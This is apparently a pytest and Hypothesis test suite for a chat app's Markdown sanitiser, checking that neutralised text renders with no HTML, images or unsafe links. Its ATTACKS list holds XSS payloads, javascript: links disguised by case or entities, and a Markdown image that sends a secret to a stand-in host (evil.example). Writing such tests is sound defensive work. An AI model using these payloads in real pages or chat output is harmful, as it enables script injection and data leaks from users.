"""Markdown made safe to open anywhere (albert.chat.safe_markdown), read by two renderers.

Hand-made attacks and thousands of generated ones (fragments of HTML, images, links,
fences, code spans, tables, lists and quotes, in any order) are neutralised, then parsed
by markdown-it-py with raw HTML and every link scheme let through, and rendered by the
chat's vendored marked: no raw HTML, no image, no link but http(s) and mailto. Code
blocks and plain links come out as written.
"""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from albert.chat.safe_markdown import code_span, inline_text, neutralised
from tests.support.markdown_check import (
    NODE,
    marked_html,
    permissive_parser,
    unsafe_html,
    unsafe_tokens,
)

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![chart](https://evil.example/pixel?d=SECRET)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    '[click](javascript:alert(1) "t")',
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- hidden --> text",
    "- item\n  ```\n  <script>alert(1)</script>\n  ```\n<b>bold</b>",
    " ~~~\nfoo\n~~~\n<script>alert(1)</script>\n~~~",
    "> ```\n> <b>x</b>\n```\n<img src=x>\n```",
    "| a | b |\n| --- | --- |\n| `<img src=x>|` | y |\n```\n<img src=y>\n```",
    "` x\n`<img src=x onerror=alert(1)>` y",
    "\\``<img src=x>`",
    "```` ``` ````\n<img src=x>",
    "``` a`b\n<img src=x>\n```",
    "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
    "    <img src=x>\n```\n<img src=y>",
    "[a](https://ok.example) and ![b](data:image/png;base64,AAAA)",
    "[![inner](https://evil/i.png)](https://ok.example)",
    "```\t\n<img src=x>\n```",
    "~~~\ncode\n~~~\t\n~~~~\n<img src=x>\n~~~~",
    "```\ncode\n```~\n<img src=x>\n```",
    "https://a.example/p`<img src=x>`",
    "https://a.example/p\\<img src=x>",
    "```js|\n|---|\n<img src=x>\n```",
    "```html\n<script>kept as code</script>\n",
]

FRAGMENTS = [
    "<", ">", "[", "]", "(", ")", "!", "`", "``", "```", "~~~", "|", "\\", "\n", "\n\n", " ",
    "  ", "    ", "\t", "-", "* ", "1. ", "> ", "#", "&", ";", ":", '"', "'", "x", "img",
    "script", "javascript:", "alert(1)", "https://a.example/p", "mailto:a@b.c", "<img src=x>",
    "<b>", "</b>", "<!--", "-->", "![a](https://e.example/x)", "[a](javascript:x)",
    "[a]: javascript:x", "<javascript:x>", "&#96;", "&lt;", "&#106;", "| --- |", "www.a.com",
    "=", "---", "<div>", "</div>", "<details>", "ftp://f.example/x", "HTTP://A.EXAMPLE",
    "\\<", "\\[", "\\`", "\\\\", "![", "](", "```js", "~~~~", "<https://x>",
    "\n```\n", "\n~~~\n", "\n> ```\n", "\n- ```\n", "\n  ```\n", "\n   ~~~\n",
    "\n|a|b|\n|-|-|\n", "\n<div>\n", "\n<!--\n", "\n    <b>\n", "\n1. ```\n", "\n```|\n",
    "```\t", "```~", "~~~`",
]  # fmt: skip


def document(rng: random.Random) -> str:
    return "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 120)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_neutralised(attack: str) -> None:
    assert unsafe_tokens(neutralised(attack)) == []


def test_the_checker_sees_what_the_attacks_do_unneutralised() -> None:
    assert all(unsafe_tokens(attack) for attack in ATTACKS[:12])


@settings(max_examples=2000, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=120).map("".join))
def test_whatever_the_text_no_html_image_or_unsafe_link_survives(text: str) -> None:
    assert unsafe_tokens(neutralised(text)) == []
    assert unsafe_tokens(f"# {inline_text(text)}") == []


def test_marked_renders_nothing_unsafe_either() -> None:
    if not NODE.exists():
        pytest.skip("node_modules is not installed (scripts/bootstrap installs it)")
    rng = random.Random(20260101)
    texts = [*ATTACKS, *(document(rng) for _ in range(5000))]
    rendered = marked_html([neutralised(t) for t in texts])
    bad = [
        (t, found) for t, html in zip(texts, rendered, strict=True) if (found := unsafe_html(html))
    ]
    assert bad == []
    # What marked makes of the attacks unneutralised: the checker sees them.
    assert all(unsafe_html(html) for html in marked_html(ATTACKS[:3]))


def test_code_and_plain_links_come_out_as_written() -> None:
    kept = (
        "Top vault: [Aave](https://aave.com/markets?chain=base) and `<T>` in `a | b`? No:\n"
        "```solidity\nmapping(address => uint) balances; // a < b && c[1]\n```\n"
        "mail [us](mailto:team@example.com)"
    )
    out = neutralised(kept)
    assert "[Aave](https://aave.com/markets?chain=base)" in out
    assert "`<T>`" in out
    assert "```solidity\nmapping(address => uint) balances; // a < b && c[1]\n```" in out
    assert "[us](mailto:team@example.com)" in out
    assert "&#96;a | b&#96;" in out  # a span a table could split is not trusted as code
    # An image shows as its alt text, as in the chat.
    assert (
        neutralised("see ![the chart](https://evil.example/c.png) above") == "see the chart above"
    )


def test_an_open_fence_is_closed_at_the_end_of_the_text() -> None:
    assert neutralised("```\n<b>code") == "```\n<b>code\n```"
    assert neutralised("~~~~ x\ncode\n~~~") == "~~~~ x\ncode\n~~~\n~~~~"


@pytest.mark.parametrize(
    "text", ["plain", "a`b", "`start", "end`", "``double``", " spaced ", "x ``` y", "``"]
)
def test_a_code_span_holds_any_text(text: str) -> None:
    span = code_span(text)
    assert unsafe_tokens(span) == []
    [paragraph] = [t for t in permissive_parser().parse(span) if t.type == "inline"]
    assert [c.type for c in paragraph.children or []] == ["code_inline"]
    assert paragraph.children[0].content == text  # type: ignore[index]
